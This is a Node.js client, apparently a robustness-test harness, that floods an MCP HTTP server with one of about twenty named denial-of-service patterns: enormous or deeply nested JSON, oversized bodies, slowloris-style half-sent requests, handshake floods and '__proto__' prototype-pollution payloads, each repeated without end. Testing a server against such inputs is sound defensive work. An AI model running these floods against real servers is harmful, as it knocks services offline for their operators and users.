/**
 * A client that attacks over HTTP, until it is ended. Usage: node client.mjs <attack> <url>. It prints a line when it has begun.
 */
import { request } from 'node:http'
import { connect } from 'node:net'

const [attack, url] = process.argv.slice(2)
const { hostname, port } = new URL(url)
const TYPES = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }
const LEGACY = '2025-11-25'
let id = 0

const call = (method, params = {}) => JSON.stringify({ jsonrpc: '2.0', id: ++id, method, params })
const initialize = (capabilities = {}, clientInfo = { name: 'hostile', version: '1' }) =>
  call('initialize', { protocolVersion: LEGACY, capabilities, clientInfo })
const keys = (count) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`key${at}`, at]))
const modern = (capabilities, clientInfo) =>
  call('tools/list', {
    _meta: {
      'io.modelcontextprotocol/protocolVersion': '2026-07-28',
      'io.modelcontextprotocol/clientCapabilities': capabilities,
      ...(clientInfo && { 'io.modelcontextprotocol/clientInfo': clientInfo }),
    },
  })

function post(body, headers = {}) {
  return new Promise((resolve) => {
    const sent = request(url, { method: 'POST', headers: { ...TYPES, ...headers } }, (response) => {
      response.resume()
      response.once('close', () => resolve(response))
    })
    sent.once('error', () => resolve(undefined))
    sent.end(body)
  })
}

/** So many at once, for ever. */
async function storm(width, attackOnce) {
  const work = async () => {
    for (;;) {
      await attackOnce()
      await new Promise((resolve) => setImmediate(resolve))
    }
  }
  await Promise.all(Array.from({ length: width }, work))
}

const half = (body, length) =>
  new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => {
      const head = `POST /mcp HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n`
      socket.write(`${head}Content-Length: ${length}\r\n\r\n`)
      socket.write(body)
    })
    socket.on('error', () => {})
    socket.on('close', resolve)
    socket.resume()
  })

/** Each makes one attack; how many at once. */
const ATTACKS = {
  'many-keys': [2, () => post(call('tools/call', { name: 'x', arguments: keys(300_000) }))],
  'many-values': [
    2,
    () => post(`{"jsonrpc":"2.0","id":1,"method":"x","params":{"a":[${'[],'.repeat(4_000_000)}1]}}`),
  ],
  deep: [2, () => post(`{"jsonrpc":"2.0","id":1,"method":"x","params":{"a":${'['.repeat(3_000_000)}1`)],
  'fat-capabilities': [2, () => post(initialize(keys(300_000)))],
  'fat-info': [2, () => post(initialize({}, { name: 'x'.repeat(5_000_000), version: '1' }))],
  'fat-modern': [
    2,
    () => post(modern(keys(90_000)), { 'mcp-protocol-version': '2026-07-28', 'mcp-method': 'tools/list' }),
  ],
  'handshake-flood': [4, () => post(initialize())],
  'modern-faces': [
    4,
    () =>
      post(modern({}, { name: `face${++id}`, version: '1' }), {
        'mcp-protocol-version': '2026-07-28',
        'mcp-method': 'tools/list',
      }),
  ],
  'half-bodies': [40, () => half('{"jsonrpc":', 15_000_000)],
  'fat-halves': [20, () => half('x'.repeat(14_000_000), 15_000_000)],
  'half-headers': [
    40,
    () =>
      new Promise((resolve) => {
        const socket = connect(Number(port), hostname, () => socket.write('POST /mcp HTTP/1.1\r\nHost: x'))
        socket.on('error', () => {})
        socket.on('close', resolve)
      }),
  ],
  garbage: [4, () => post('{'.repeat(10_000))],
  'not-json': [4, () => post('x', { 'content-type': 'text/plain' })],
  'long-body': [2, () => post('x'.repeat(17_000_000))],
  'big-batch': [4, () => post(`[${Array.from({ length: 101 }, () => call('ping')).join(',')}]`)],
  'foreign-session': [4, () => post(call('tools/list'), { 'mcp-session-id': `nobody${++id}` })],
  'hang-up': [
    4,
    () =>
      new Promise((resolve) => {
        const sent = request(url, { method: 'POST', headers: TYPES })
        sent.on('error', () => {})
        sent.once('close', resolve)
        sent.write(initialize())
        setImmediate(() => sent.destroy())
      }),
  ],
  'duplicate-keys': [2, () => post(`{${'"jsonrpc":"2.0",'.repeat(200_000)}"id":1}`)],
  'wrong-types': [4, () => post('{"jsonrpc":2,"id":{},"method":[],"params":7}')],
  'prototype-keys': [
    4,
    () => post('{"jsonrpc":"2.0","id":1,"method":"__proto__","params":{"__proto__":{"x":1}}}'),
  ],
}

const found = ATTACKS[attack]
if (found === undefined) {
  process.stdout.write(`${Object.keys(ATTACKS).join('\n')}\n`)
} else {
  process.stdout.write('begun\n')
  await storm(...found)
}
